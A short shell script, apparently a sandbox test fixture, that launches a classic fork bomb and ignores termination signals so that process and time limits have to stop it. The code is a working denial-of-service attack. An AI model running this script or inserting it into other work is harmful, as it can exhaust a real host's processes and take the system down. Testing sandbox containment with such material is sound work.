#!/bin/sh
# forkbomb.sh -- ATTACK: the classic shell fork bomb  :(){ :|:& };:
# Usage: /bin/sh forkbomb.sh MARKER
# Every subshell keeps "MARKER" in its cmdline (it is this script's argument),
# so the host can check that nothing survives the run.  The bomb never ends by
# itself; the sandbox must stop it (pids limit + wall-time limit) and leave
# nothing behind.  Prints nothing useful; success of the attack would be a host
# that cannot fork any more or leftover processes.
trap '' TERM HUP INT
bomb() { bomb | bomb & }
bomb
# keep the parent alive too
while :; do bomb 2>/dev/null; sleep 0.1; done
